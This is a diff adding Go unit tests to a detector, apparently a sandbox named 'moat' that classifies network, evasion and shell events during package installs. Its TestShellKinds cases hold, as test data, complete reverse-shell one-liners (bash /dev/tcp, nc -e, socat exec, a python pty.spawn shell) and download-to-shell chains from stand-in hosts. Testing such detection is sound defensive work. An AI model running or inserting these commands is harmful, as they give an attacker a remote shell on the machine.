@@ -80,6 +80,13 @@ func TestAnalyze(t *testing.T) {
 			{Source: "kernel", Kind: "connect", Addr: "10.255.255.53:53", PID: 4},
 			{Source: "audit", Kind: "connect", Addr: "10.255.255.53:53", PID: 4},
 			{Source: "network", Kind: "dns", Addr: "10.255.255.53:53", Name: "example.org", Detail: "sinkholed A 198.18.0.1"}}, moat.CategoryNetwork, "low"},
+		{"a private address with no network (requests' TARPIT, 10.255.255.1)", []moat.Event{
+			{Source: "kernel", Kind: "connect", Addr: "10.255.255.1:80", PID: 4},
+			{Source: "audit", Kind: "connect", Addr: "10.255.255.1:80", PID: 4}}, moat.CategoryNetwork, "low"},
+		{"a private address the sink answered", []moat.Event{
+			{Source: "kernel", Kind: "connect", Addr: "10.255.255.1:80", PID: 4},
+			{Source: "network", Kind: "connect", Addr: "10.255.255.1:80", Detail: "sinkholed tcp http POST host=10.255.255.1"}}, moat.CategoryNetwork, "medium"},
+		{"a public address with no network", []moat.Event{{Source: "kernel", Kind: "connect", Addr: "203.0.113.9:80", PID: 4}}, moat.CategoryNetwork, "medium"},
 		{"port 53 the sink did not answer", []moat.Event{{Source: "kernel", Kind: "connect", Addr: "10.255.255.53:53", PID: 4}}, moat.CategoryNetwork, "medium"},
 		{"pth without code", []moat.Event{{Source: "fs", Kind: "file-created", Path: "/work/v/x.pth", Data: "/some/dir"}}, moat.CategoryPersistence, ""},
 		{"pth with code", []moat.Event{{Source: "fs", Kind: "file-created", Path: "/work/v/x.pth", Data: `/a\x0aimport os`}}, moat.CategoryPersistence, "high"},
@@ -110,6 +117,11 @@ func TestAnalyze(t *testing.T) {
 			{Source: "audit", Kind: "dns", Name: "localhost", PID: 18, TimeMS: 980},
 			{Source: "kernel", Kind: "connect", Addr: "127.0.0.1:80", PID: 18, TimeMS: 980},
 			{Source: "kernel", Kind: "connect", Addr: "[::1]:80", PID: 18, TimeMS: 980}}, moat.CategoryEvasion, ""},
+		{"getaddrinfo of localhost again, minutes later: the hook reports a name once a process (requests' suite on docker)", []moat.Event{
+			{Source: "audit", Kind: "hello", PID: 19, TimeMS: 900},
+			{Source: "audit", Kind: "dns", Name: "localhost", PID: 19, TimeMS: 2016},
+			{Source: "kernel", Kind: "connect", Addr: "127.0.0.1:0", PID: 19, TimeMS: 4078},
+			{Source: "kernel", Kind: "connect", Addr: "127.0.0.1:55517", PID: 19, TimeMS: 64081}}, moat.CategoryEvasion, ""},
 		{"a lookup, then a connect through ctypes elsewhere", []moat.Event{
 			{Source: "audit", Kind: "hello", PID: 18, TimeMS: 900},
 			{Source: "audit", Kind: "dns", Name: "localhost", PID: 18, TimeMS: 980},
@@ -117,6 +129,24 @@ func TestAnalyze(t *testing.T) {
 		{"a connect to loopback through ctypes with no lookup", []moat.Event{
 			{Source: "audit", Kind: "hello", PID: 18, TimeMS: 900},
 			{Source: "kernel", Kind: "connect", Addr: "127.0.0.1:80", PID: 18, TimeMS: 980}}, moat.CategoryEvasion, "high"},
+		{"socket.connect((\"localhost\", port)): the hook names the host, the kernel its address (requests' suite)", []moat.Event{
+			{Source: "audit", Kind: "hello", PID: 11, TimeMS: 900},
+			{Source: "audit", Kind: "connect", Addr: "localhost:36679", PID: 11, TimeMS: 10302},
+			{Source: "kernel", Kind: "connect", Addr: "127.0.0.1:36679", PID: 11, TimeMS: 10303}}, moat.CategoryEvasion, ""},
+		{"a connect by name the sink resolved", []moat.Event{
+			{Source: "audit", Kind: "hello", PID: 11, TimeMS: 900},
+			{Source: "network", Kind: "dns", Name: "api.example", Detail: "sinkholed A 198.18.0.4", Addr: "127.0.0.53:53"},
+			{Source: "audit", Kind: "connect", Addr: "api.example:443", PID: 11, TimeMS: 1000},
+			{Source: "kernel", Kind: "connect", Addr: "198.18.0.4:443", PID: 11, TimeMS: 1001}}, moat.CategoryEvasion, ""},
+		{"a connect by name, and a ctypes connect elsewhere on its port", []moat.Event{
+			{Source: "audit", Kind: "hello", PID: 11, TimeMS: 900},
+			{Source: "network", Kind: "dns", Name: "api.example", Detail: "sinkholed A 198.18.0.4", Addr: "127.0.0.53:53"},
+			{Source: "audit", Kind: "connect", Addr: "api.example:443", PID: 11, TimeMS: 1000},
+			{Source: "kernel", Kind: "connect", Addr: "203.0.113.9:443", PID: 11, TimeMS: 1001}}, moat.CategoryEvasion, "high"},
+		{"a connect to localhost, and a ctypes connect to loopback on another port", []moat.Event{
+			{Source: "audit", Kind: "hello", PID: 11, TimeMS: 900},
+			{Source: "audit", Kind: "connect", Addr: "localhost:8080", PID: 11, TimeMS: 1000},
+			{Source: "kernel", Kind: "connect", Addr: "127.0.0.1:9000", PID: 11, TimeMS: 1001}}, moat.CategoryEvasion, "high"},
 		{"a message of gVisor's trace moat could not read", []moat.Event{
 			{Source: "kernel", Kind: "trace", Name: "unreadable", PID: 4, Detail: "execve(0x1 /tmp/c"}}, moat.CategoryEvasion, "medium"},
 	}
@@ -342,5 +372,69 @@ func TestHookIntegrity(t *testing.T) {
 	}
 	if !isInterpreter("python3.12") || !isInterpreter("python") || isInterpreter("python-config") || isInterpreter("pytest") {
 		t.Error("isInterpreter")
+	}
+}
+
+// TestShellKinds: a download fed to a shell and a reverse shell are two
+// findings. A reverse shell is a connection that becomes a shell's stdio
+// (its own fds, or a parent's connection that carried no request); a
+// shell with no script started after downloads alone ran what they
+// fetched (stage2_chain: urlopen, then subprocess.run(["sh"], input=...)).
+func TestShellKinds(t *testing.T) {
+	connect := func(pid int, addr string, ms int64) moat.Event {
+		return moat.Event{Source: "kernel", Kind: "connect", Addr: addr, PID: pid, PPID: 1, TimeMS: ms}
+	}
+	sink := func(addr, host, p, detail string) moat.Event {
+		return moat.Event{Source: "network", Kind: "connect", Addr: addr, Name: host, Path: p, Detail: detail}
+	}
+	shell := func(pid, ppid int, detail string, ms int64) moat.Event {
+		return moat.Event{Source: "kernel", Kind: "exec", Path: "/usr/bin/sh", Detail: detail, PID: pid, PPID: ppid, TimeMS: ms}
+	}
+	const fed, reverse = "fed a download to a shell: downloaded ", "reverse shell: "
+	const crit = "critical "
+	cases := []struct {
+		name      string
+		evs       []moat.Event
+		want, not string
+	}{
+		{"urlopen, then sh with the script on stdin", []moat.Event{
+			connect(11, "198.18.0.1:80", 1), sink("198.18.0.1:80", "get.evil-cdn.example", "/install.sh", "sinkholed tcp http GET host=get.evil-cdn.example"),
+			shell(12, 11, "sh", 3)}, crit + fed + "get.evil-cdn.example/install.sh (GET)", reverse},
+		{"an HTTPS download the sink decrypted", []moat.Event{
+			connect(11, "198.18.0.2:443", 1), sink("198.18.0.2:443", "pastebin.com", "/raw/x", "sinkholed tcp tls sni=pastebin.com decrypted https GET host=pastebin.com"),
+			shell(12, 11, "bash -s", 3)}, crit + fed + "pastebin.com/raw/x (GET)", reverse},
+		{"a connection with no request, shell in the child (pty.spawn's shape)", []moat.Event{
+			connect(11, "203.0.113.9:8888", 1), sink("203.0.113.9:8888", "", "", "sinkholed tcp"),
+			shell(12, 11, "/bin/bash", 3)}, crit + reverse + "connected to 203.0.113.9:8888", fed},
+		{"a download first, then a channel: the channel wins", []moat.Event{
+			connect(11, "198.18.0.1:80", 1), sink("198.18.0.1:80", "x.example", "/a", "sinkholed tcp http GET host=x.example"),
+			connect(11, "203.0.113.9:4444", 2), sink("203.0.113.9:4444", "", "", "sinkholed tcp"),
+			shell(12, 11, "sh", 3)}, crit + reverse + "connected to 203.0.113.9:4444", fed},
+		{"no sink (network none): a connection that failed", []moat.Event{
+			connect(11, "203.0.113.9:4444", 1), shell(12, 11, "sh", 3)}, crit + reverse, fed},
+		{"a download, but the shell's own stdio is a socket", []moat.Event{
+			connect(11, "198.18.0.1:80", 1), sink("198.18.0.1:80", "x.example", "/a", "sinkholed tcp http GET host=x.example"),
+			{Source: "kernel", Kind: "exec", Path: "/usr/bin/sh", Detail: "sh -i", Stdio: "0,1,2", PID: 11, TimeMS: 3}}, crit + reverse + "/usr/bin/sh with fds 0,1,2 on a socket", fed},
+		{"a download, and a script to run: not fed", []moat.Event{
+			connect(11, "198.18.0.1:80", 1), sink("198.18.0.1:80", "x.example", "/a", "sinkholed tcp http GET host=x.example"),
+			shell(12, 11, "sh -c ls", 3)}, "low ran shell commands", fed},
+		{"bash -i >& /dev/tcp", []moat.Event{shell(4, 1, "bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", 1)}, crit + "opened a reverse shell over /dev/tcp", fed},
+		{"nc -e", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/usr/bin/nc", Detail: "nc -e /bin/sh 203.0.113.9 4444", PID: 4}}, crit + "wired a socket to a shell", fed},
+		{"socat exec", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/usr/bin/socat", Detail: "socat tcp:203.0.113.9:4444 exec:/bin/sh,pty,stderr", PID: 4}}, crit + "wired a socket to a shell", fed},
+		{"python's socket, dup2 and pty.spawn in one line", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/usr/bin/python3", PID: 4,
+			Detail: `python -c import os,pty,socket;s=socket.socket();s.connect(("203.0.113.9",8888));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/bash")`}},
+			crit + "wired a socket to a shell", fed},
+	}
+	for _, c := range cases {
+		var got, not bool
+		var sums []string
+		for _, f := range Analyze(c.evs) {
+			sums = append(sums, string(f.Severity)+" "+f.Summary)
+			got = got || strings.HasPrefix(sums[len(sums)-1], c.want)
+			not = not || strings.Contains(f.Summary, c.not)
+		}
+		if !got || not {
+			t.Errorf("%s: want a finding with %q and none with %q; got %q", c.name, c.want, c.not, sums)
+		}
 	}
 }
